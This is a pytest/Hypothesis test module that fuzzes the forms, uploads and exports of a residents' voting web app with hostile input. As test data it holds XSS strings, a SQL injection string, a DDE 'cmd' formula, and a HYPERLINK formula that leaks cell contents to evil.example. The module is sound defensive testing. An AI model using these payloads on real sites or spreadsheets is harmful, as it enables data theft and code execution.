"""Hostile input against every form (issue 8): never a 500, markup always escaped,
formulas neutralised in exports.

Hypothesis runs each form with arbitrary text (the suite's "ci" profile: 40 examples)
and a list of known-bad values: HTML/script, over-long strings, NUL bytes, wrong
encodings, spreadsheet formulas. Each test seeds one world (tests/test_access_walk.py)
and fuzzes inside it; the state grows across examples, which is part of the point.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from residents_vote.models import Household, Objection, Proposal
from tests.factories import two_communities
from tests.helpers import count, csrf_token, form_fields, login, read, receipt_of

XSS = '<script>alert("xss")</script>'
IMG = '"><img src=x onerror=alert(1)>'
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此领取补贴")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]
KNOWN_BAD = [
    XSS,
    IMG,
    "</textarea><script>alert(2)</script>",
    "{{ 7*7 }}{% raw %}",
    "\x00",
    "a\x00b",
    "x" * 10_000,
    "长" * 3000,
    "\u202egnp.exe",
    "\ufeff",
    "' OR 1=1 --",
    "%00%ff",
    "\r\n\r\nSet-Cookie: x=1",
    "",
    " ",
    *FORMULAS,
]

# Text a browser can send: anything but lone surrogates (not encodable as UTF-8).
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=400)
HOSTILE = st.one_of(TEXT, st.sampled_from(KNOWN_BAD))


def mostly(valid, n: int = 4):
    """Usually a valid value (so the form gets past validation), sometimes a hostile one."""
    valid = valid if isinstance(valid, st.SearchStrategy) else st.sampled_from(valid)
    return st.integers(0, n).flatmap(lambda i: HOSTILE if i == 0 else valid)


FUZZ = settings(
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    deadline=None,
)


def sign_in(app, name: str = "staff_a"):
    client = app.test_client()
    assert login(client, name).status_code == 303
    return client


def assert_escaped(html: str, *values: str) -> None:
    """No user-supplied markup reaches the page raw."""
    assert "<script>alert(" not in html
    assert "<img src=x" not in html
    for value in values:
        if re.search(r"<[a-zA-Z/!]", value):
            assert value not in html, f"unescaped {value[:60]!r}"


def never_500(response, *allowed: int) -> None:
    assert response.status_code < 500, response.get_data(as_text=True)[:500]
    if allowed:
        assert response.status_code in allowed, response.status_code


# --- login -------------------------------------------------------------------------------------


def test_login_form_fuzz(app):
    two_communities(app)
    client = app.test_client()
    token = csrf_token(client.get("/login").get_data(as_text=True))

    @FUZZ
    @given(username=HOSTILE, password=HOSTILE, next_=HOSTILE)
    def run(username, password, next_):
        response = client.post(
            "/login",
            query_string={"next": next_},
            data={"csrf_token": token, "username": username, "password": password},
        )
        never_500(response, 200, 400)
        assert_escaped(response.get_data(as_text=True), username)

    run()


def test_login_with_broken_encoding(app):
    two_communities(app)
    client = app.test_client()
    token = csrf_token(client.get("/login").get_data(as_text=True))
    for body in (
        b"csrf_token=" + token.encode() + b"&username=%FF%FE%00&password=\xff\xfe",
        b"csrf_token=" + token.encode() + b"&username=\xc3\x28&password=%C3%28",
        f"csrf_token={token}&username=张三&password=密码".encode("gb18030"),
    ):
        response = client.post(
            "/login", data=body, content_type="application/x-www-form-urlencoded"
        )
        never_500(response, 200, 400)


# --- proposal form (staff) ---------------------------------------------------------------------


def test_proposal_form_fuzz(app):
    two_communities(app)
    client = sign_in(app)
    token = csrf_token(client.get("/staff/c/a/proposals/new").get_data(as_text=True))

    @FUZZ
    @given(
        title=HOSTILE.filter(lambda t: t.strip()) | st.sampled_from([XSS, IMG]),
        questions=HOSTILE,
        body=HOSTILE,
        scope=mostly(["", "1", "1,2"]),
        starts=mostly(["", "2030-01-01T08:00"]),
        closes=mostly(["", "2030-02-01 18:00"]),
        objection_days=mostly(st.integers(-5, 400).map(str)),
        stage=mostly(["application", "design", "other"]),
        rule=mostly(["seed", "civil-major", "civil-ordinary"]),
        verify=mostly(["none", "phone4"]),
    )
    def run(title, questions, body, scope, starts, closes, objection_days, stage, rule, verify):
        form = {
            "csrf_token": token,
            "title": title,
            "questions": questions,
            "body": body,
            "scope": scope,
            "starts": starts,
            "closes": closes,
            "objection_days": objection_days,
            "stage": stage,
            "rule": rule,
            "verify": verify,
        }
        response = client.post("/staff/c/a/proposals/new", data=form)
        never_500(response, 303, 400, 422)
        html = response.get_data(as_text=True)
        if response.status_code == 303:
            html = client.get(response.headers["Location"]).get_data(as_text=True)
        assert_escaped(html, title, questions, body)

    run()


def test_markup_in_a_proposal_is_escaped_on_every_page(app):
    """Stored markup (title, question, description) shown to staff, residents, the public."""
    world = two_communities(app)
    client = sign_in(app)
    token = csrf_token(client.get("/staff/c/a/proposals/new").get_data(as_text=True))
    response = client.post(
        "/staff/c/a/proposals/new",
        data={
            "csrf_token": token,
            "title": "电梯" + XSS,
            "questions": f"同意吗{IMG}\n第二问</legend><script>alert(3)</script>",
            "body": "说明</details><script>alert(4)</script>",
            "stage": "design",
            "rule": "seed",
            "verify": "none",
        },
    )
    assert response.status_code == 303
    with read(app) as s:
        proposal = s.query(Proposal).filter(Proposal.title.contains("script")).one()
        pid, public_id = proposal.id, proposal.public_id
    pages = [client.get(f"/staff/proposals/{pid}"), client.get("/staff/c/a")]
    pages.append(client.get(f"/staff/proposals/{pid}/edit"))
    page = client.get(f"/staff/proposals/{pid}").get_data(as_text=True)
    opened = client.post(
        f"/staff/proposals/{pid}/open", data={"csrf_token": csrf_token(page, "/open")}
    )
    assert opened.status_code == 303
    page = client.get(f"/staff/proposals/{pid}").get_data(as_text=True)
    issued = client.post(
        f"/staff/proposals/{pid}/ballots",
        data={"csrf_token": csrf_token(page, "/ballots"), "mode": "issue"},
    )
    assert issued.status_code == 200 and issued.mimetype == "application/pdf"
    pages += [client.get(f"/staff/proposals/{pid}"), client.get(f"/r/{public_id}")]
    pages.append(app.test_client().get(f"/r/{public_id}"))
    # a resident's ballot of that proposal
    from residents_vote.services import ballots, proposals
    from tests.helpers import write

    with write(app) as s:
        (first, *_) = ballots.reissue(s, proposals.lock(s, pid), ["1-1-101"], actor="t")
    ballot = app.test_client()
    page = ballot.get(f"/b/{first.token}")
    pages.append(page)
    confirm = ballot.post(
        f"/b/{first.token}",
        data={"csrf_token": csrf_token(page.get_data(as_text=True)), "q1": "agree", "q2": "oppose"},
    )
    pages.append(confirm)
    for response in pages:
        assert response.status_code == 200
        assert_escaped(response.get_data(as_text=True))
    assert world.slug == "a"


# --- paper entry (staff) -----------------------------------------------------------------------


def test_paper_entry_fuzz(app):
    world = two_communities(app)
    client = sign_in(app)
    url = f"/staff/proposals/{world.open_id}/paper"
    token = csrf_token(client.get(url).get_data(as_text=True))
    answers = mostly(["agree", "oppose", "abstain", "invalid", ""])

    @FUZZ
    @given(
        household=mostly(["1-1-101", "1-1-102", "1-2-201", "2-1-101", "2-1-102", "9-9-9"]),
        serial=mostly([""]),
        channel=mostly(["paper", "proxy"]),
        proxy_name=HOSTILE,
        q1=answers,
        q2=answers,
    )
    def run(household, serial, channel, proxy_name, q1, q2):
        form = {
            "csrf_token": token,
            "household": household,
            "serial": serial,
            "channel": channel,
            "proxy_name": proxy_name,
            "q1": q1,
            "q2": q2,
        }
        response = client.post(url, data=form, content_type="multipart/form-data")
        never_500(response)
        assert_escaped(response.get_data(as_text=True), household, serial, proxy_name)

    run()


# --- objections (public) -----------------------------------------------------------------------


def test_objection_form_fuzz(app):
    world = two_communities(app)
    client = app.test_client()
    url = f"/r/{world.closed_public}"
    token = csrf_token(client.get(url).get_data(as_text=True), "/objections")

    @FUZZ
    @given(
        name=HOSTILE,
        text=HOSTILE,
        household=st.one_of(st.sampled_from(["", "1-1-101", "2-1-102"]), HOSTILE),
        contact=HOSTILE,
        receipt=st.one_of(st.sampled_from(["", receipt_of(app, world.closed_public)]), HOSTILE),
    )
    def run(name, text, household, contact, receipt):
        form = {
            "csrf_token": token,
            "name": name,
            "text": text,
            "household": household,
            "contact": contact,
            "receipt": receipt,
        }
        response = client.post(url + "/objections", data=form)
        never_500(response, 303, 400, 422)
        html = response.get_data(as_text=True)
        if response.status_code == 303:
            html = client.get(response.headers["Location"]).get_data(as_text=True)
        assert_escaped(html, name, text, household)

    run()


def test_markup_in_an_objection_is_escaped_for_public_and_staff(app):
    world = two_communities(app)
    client = app.test_client()
    url = f"/r/{world.closed_public}"
    token = csrf_token(client.get(url).get_data(as_text=True), "/objections")
    before = count(app, Objection)
    response = client.post(
        url + "/objections",
        data={
            "csrf_token": token,
            "name": "王" + XSS,
            "text": "面积不对" + IMG,
            "receipt": receipt_of(app, world.closed_public, "1-1-102"),
            "contact": "<a href=javascript:alert(1)>x</a>",
        },
    )
    assert response.status_code == 303
    assert count(app, Objection) == before + 1
    staff = sign_in(app)
    for page in (client.get(url), staff.get(f"/staff/proposals/{world.closed_id}")):
        assert page.status_code == 200
        html = page.get_data(as_text=True)
        assert_escaped(html, "<a href=javascript:alert(1)>x</a>")
        assert "javascript:alert" not in html.replace("javascript:alert(1)&gt;", "")


# --- register upload (staff) -------------------------------------------------------------------

HEADER = st.lists(
    st.sampled_from(
        [
            "building",
            "楼栋",
            "unit",
            "单元",
            "room",
            "房号",
            "area",
            "面积",
            "专有部分面积",
            "owner_name",
            "业主姓名",
            "owner_key",
            "phone",
            "电话",
            "备注",
            XSS,
            "=1+1",
            "",
        ]
    ),
    min_size=1,
    max_size=8,
)


def _xlsx(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    workbook = Workbook()
    for row in rows:
        workbook.active.append([ILLEGAL_CHARACTERS_RE.sub("", c) for c in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _csv(header: list[str], rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


ROW = st.fixed_dictionaries(
    {
        "building": mostly(["1", "5", "12", "A座"]),
        "unit": mostly(["", "1", "2"]),
        "room": mostly(["101", "502", "1203"]),
        "area": mostly(["80.5", "66.25", "120", "0.01"]),
        "owner_name": HOSTILE,
        "owner_key": mostly(["", "k1", "k2"]),
        "phone": mostly(["", "13800000000"]),
    }
)


def test_register_upload_fuzz(app):
    two_communities(app)
    client = sign_in(app)
    token = csrf_token(client.get("/staff/c/a").get_data(as_text=True), "/import")
    before = count(app, Household)
    columns = ["building", "unit", "room", "area", "owner_name", "owner_key", "phone"]

    @FUZZ
    @given(
        header=st.one_of(
            st.just(columns),
            st.just(["楼栋", "单元", "房号", "面积", "业主姓名", "业主标识", "电话"]),
            HEADER,
        ),
        rows=st.lists(ROW, max_size=6),
        encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "latin-1", "raw"]),
        name=st.sampled_from(["r.csv", "R.CSV", "r.xlsx", "r.csv"]),
        raw=st.binary(max_size=200),
    )
    def run(header, rows, encoding, name, raw):
        cells = [[row[c] for c in columns] for row in rows]
        text = _csv(header, cells)
        data = raw if encoding == "raw" else text.encode(encoding, errors="replace")
        if name.endswith(".xlsx") and encoding != "raw":
            data = _xlsx([header, *cells])
        response = client.post(
            "/staff/c/a/import",
            data={"csrf_token": token, "file": (io.BytesIO(data), name)},
            content_type="multipart/form-data",
        )
        never_500(response, 200, 422)
        assert_escaped(response.get_data(as_text=True), *header, *(c for r in cells for c in r))

    run()
    assert count(app, Household) == before  # previews write nothing


REGISTER_WITH_FORMULAS = (
    "楼栋,单元,房号,面积,业主姓名,业主标识,电话\n"
    '3,1,101,80.00,"\'=HYPERLINK(""http://evil.example"",""点我"")",k1,\'+8613800000000\n'
    "3,1,102,81.00,'@SUM(A1),'-k2,'=1+1\n"
    f'3,1,103,82.00,"{XSS.replace(chr(34), chr(34) * 2)}",k3,\n'
)


def _import(client, data: bytes, name: str = "r.csv"):
    token = csrf_token(client.get("/staff/c/a").get_data(as_text=True), "/import")
    preview = client.post(
        "/staff/c/a/import",
        data={"csrf_token": token, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )
    assert preview.status_code == 200, preview.get_data(as_text=True)[:2000]
    assert_escaped(preview.get_data(as_text=True))
    fields = form_fields(preview.get_data(as_text=True), "/import/confirm")
    done = client.post("/staff/c/a/import/confirm", data=fields)
    assert done.status_code == 303
    return done


def test_formula_cells_round_trip_and_are_neutralised_in_exports(app):
    two_communities(app)
    client = sign_in(app)
    _import(client, REGISTER_WITH_FORMULAS.encode())
    with read(app) as s:
        stored = {h.room: h for h in s.query(Household).filter(Household.building == "3")}
    assert stored["101"].owner_name.startswith("=HYPERLINK(")  # the escape ' was stripped
    assert stored["102"].owner_key == "-k2" and stored["102"].phone == "=1+1"

    page = client.get("/staff/c/a?q=3-1").get_data(as_text=True)
    assert_escaped(page)

    exported = client.get("/staff/c/a/export.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.get_data().decode("utf-8-sig"))))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", row
    assert any(cell.startswith("'=HYPERLINK(") for row in rows for cell in row)

    xlsx = client.get("/staff/c/a/export.xlsx")
    assert_no_formula_cells(xlsx.get_data())
    # and the export imports back unchanged
    again = _import(client, exported.get_data())
    assert again.status_code == 303
    with read(app) as s:
        assert s.query(Household).filter(Household.owner_name.startswith("=HYPERLINK")).count()


def assert_no_formula_cells(data: bytes) -> None:
    """No <f> element in any sheet, and openpyxl reads every cell as a value, not a formula."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_formula_cells_in_an_xlsx_register_are_refused_or_kept_as_text(app):
    from openpyxl import Workbook

    two_communities(app)
    client = sign_in(app)
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["楼栋", "房号", "面积", "业主姓名"])
    sheet.append(["4", "101", "50.5", '=HYPERLINK("http://evil.example","x")'])  # a formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    token = csrf_token(client.get("/staff/c/a").get_data(as_text=True), "/import")
    response = client.post(
        "/staff/c/a/import",
        data={"csrf_token": token, "file": (io.BytesIO(buffer.getvalue()), "r.xlsx")},
        content_type="multipart/form-data",
    )
    never_500(response, 200, 422)
    assert_escaped(response.get_data(as_text=True))


# --- the ballot --------------------------------------------------------------------------------


def test_ballot_post_fuzz(app):
    world = two_communities(app)
    anon = app.test_client()
    page = anon.get(f"/b/{world.token}").get_data(as_text=True)
    token = csrf_token(page)
    answers = st.one_of(st.sampled_from(["agree", "oppose", "abstain", "invalid", ""]), HOSTILE)

    @FUZZ
    @given(
        q1=answers,
        q2=answers,
        q3=st.one_of(st.none(), HOSTILE),
        confirm=st.one_of(st.sampled_from(["yes", "no", ""]), HOSTILE),
        edit=st.one_of(st.none(), HOSTILE),
        phone4=HOSTILE,
        which=st.sampled_from(["live", "voted", "revoked"]),
    )
    def run(q1, q2, q3, confirm, edit, phone4, which):
        ballot = {"live": world.token, "voted": world.voted_token}.get(which, world.revoked_token)
        form = {"csrf_token": token, "q1": q1, "q2": q2, "confirm": confirm, "phone4": phone4}
        if q3 is not None:
            form["q3"] = q3
        if edit is not None:
            form["edit"] = edit
        response = anon.post(f"/b/{ballot}", data=form)
        never_500(response, 200, 303, 400, 409, 410, 422)
        assert_escaped(response.get_data(as_text=True), q1, q2, phone4)

    run()


PATHS = [
    "/b/{}",
    "/r/{}",
    "/r/{}.json",
    "/r/{}/receipt",
    "/r/{}/notice.pdf",
]


def test_url_parameters_fuzz(app):
    world = two_communities(app)
    anon = app.test_client()
    staff = sign_in(app)

    @FUZZ
    @given(value=st.one_of(TEXT.filter(bool), st.sampled_from(KNOWN_BAD[:12])), code=HOSTILE)
    def run(value, code):
        from urllib.parse import quote

        part = quote(value, safe="")
        for template in PATHS:
            never_500(anon.get(template.format(part)))
        never_500(anon.get(f"/r/{world.closed_public}/receipt", query_string={"code": code}))
        for path in (f"/staff/c/{part}", f"/staff/c/a?q={quote(code, safe='')}"):
            response = staff.get(path)
            never_500(response)
            assert_escaped(response.get_data(as_text=True), value, code)

    run()


@pytest.mark.parametrize("field", ["name", "text", "contact", "household", "receipt"])
def test_nul_and_overlong_objection_fields_are_refused_cleanly(app, field):
    world = two_communities(app)
    client = app.test_client()
    url = f"/r/{world.closed_public}"
    token = csrf_token(client.get(url).get_data(as_text=True), "/objections")
    base = {
        "csrf_token": token,
        "name": "张三",
        "text": "有异议",
        "household": "",
        "contact": "",
        "receipt": receipt_of(app, world.closed_public),
    }
    for bad in ("a\x00b", "长" * 6000):
        response = client.post(url + "/objections", data={**base, field: bad})
        never_500(response, 303, 400, 422)


def test_nul_bytes_are_refused_as_malformed(app):
    """PostgreSQL text cannot hold NUL: every way in answers 400, never 500."""
    world = two_communities(app)
    anon = app.test_client()
    token = csrf_token(anon.get("/login").get_data(as_text=True))
    assert anon.get("/b/abc%00def").status_code == 400
    assert anon.get(f"/r/{world.closed_public}/receipt?code=AB%00CD").status_code == 400
    login_form = {"csrf_token": token, "username": "staff_a\x00", "password": "x"}
    assert anon.post("/login", data=login_form).status_code == 400
    staff = sign_in(app)
    assert staff.get("/staff/c/a%00").status_code == 400
    url = f"/staff/proposals/{world.open_id}/paper"
    form = {
        "csrf_token": csrf_token(staff.get(url).get_data(as_text=True)),
        "household": "2-1-101",
        "channel": "paper",
        "q1": "agree",
        "q2": "agree",
        "scan": (io.BytesIO(b"%PDF-1.4 scan"), "scan\x00.pdf"),
    }
    response = staff.post(url, data=form, content_type="multipart/form-data")
    assert response.status_code == 400


def test_nul_bytes_inside_a_register_file(app):
    two_communities(app)
    client = sign_in(app)
    data = "楼栋,房号,面积,业主姓名\n7,101,50.00,张\x00三\n7\x00,102,51.00,李四\n".encode()
    token = csrf_token(client.get("/staff/c/a").get_data(as_text=True), "/import")
    before = count(app, Household)
    preview = client.post(
        "/staff/c/a/import",
        data={"csrf_token": token, "file": (io.BytesIO(data), "r.csv")},
        content_type="multipart/form-data",
    )
    never_500(preview, 200, 422)
    if preview.status_code == 200:
        fields = form_fields(preview.get_data(as_text=True), "/import/confirm")
        never_500(client.post("/staff/c/a/import/confirm", data=fields), 303, 422)
    else:
        assert count(app, Household) == before


@pytest.mark.parametrize(
    "column, value",
    [
        ("业主姓名", "名" * 300),
        ("楼栋", "1" * 40),
        ("房号", "9" * 40),
        ("业主标识", "k" * 150),
        ("电话", "1" * 80),
        ("单元", "u" * 40),
    ],
)
def test_overlong_register_cells_are_refused_not_500(app, column, value):
    """Longer than the database column (PostgreSQL enforces VARCHAR lengths): a row error."""
    two_communities(app)
    client = sign_in(app)
    row = {"楼栋": "8", "单元": "1", "房号": "101", "面积": "50.00", "业主姓名": "张三"}
    row.update({"业主标识": "", "电话": ""})
    row[column] = value
    data = _csv(list(row), [list(row.values())]).encode()
    token = csrf_token(client.get("/staff/c/a").get_data(as_text=True), "/import")
    preview = client.post(
        "/staff/c/a/import",
        data={"csrf_token": token, "file": (io.BytesIO(data), "r.csv")},
        content_type="multipart/form-data",
    )
    never_500(preview, 200, 422)
    if preview.status_code == 200:
        fields = form_fields(preview.get_data(as_text=True), "/import/confirm")
        never_500(client.post("/staff/c/a/import/confirm", data=fields), 303)


def test_formulas_neutralised_in_the_nonvoter_exports(app):
    """Owner names shown to staff for door-to-door follow-up: HTML escaped, XLSX as text."""
    world = two_communities(app)
    client = sign_in(app)
    data = (
        "楼栋,单元,房号,面积,业主姓名,电话\n"
        '1,1,101,80.50,"\'=HYPERLINK(""http://evil.example"",""x"")",\'+8613800000001\n'
        f'1,1,102,90.25,"{XSS.replace(chr(34), chr(34) * 2)}",\'@13800000002\n'
    ).encode()
    _import(client, data)
    page = client.get(f"/staff/proposals/{world.open_id}/nonvoters")
    assert page.status_code == 200
    assert_escaped(page.get_data(as_text=True))
    xlsx = client.get(f"/staff/proposals/{world.open_id}/nonvoters.xlsx")
    assert xlsx.status_code == 200
    assert_no_formula_cells(xlsx.get_data())
    pdf = client.get(f"/staff/proposals/{world.open_id}/nonvoters.pdf")
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
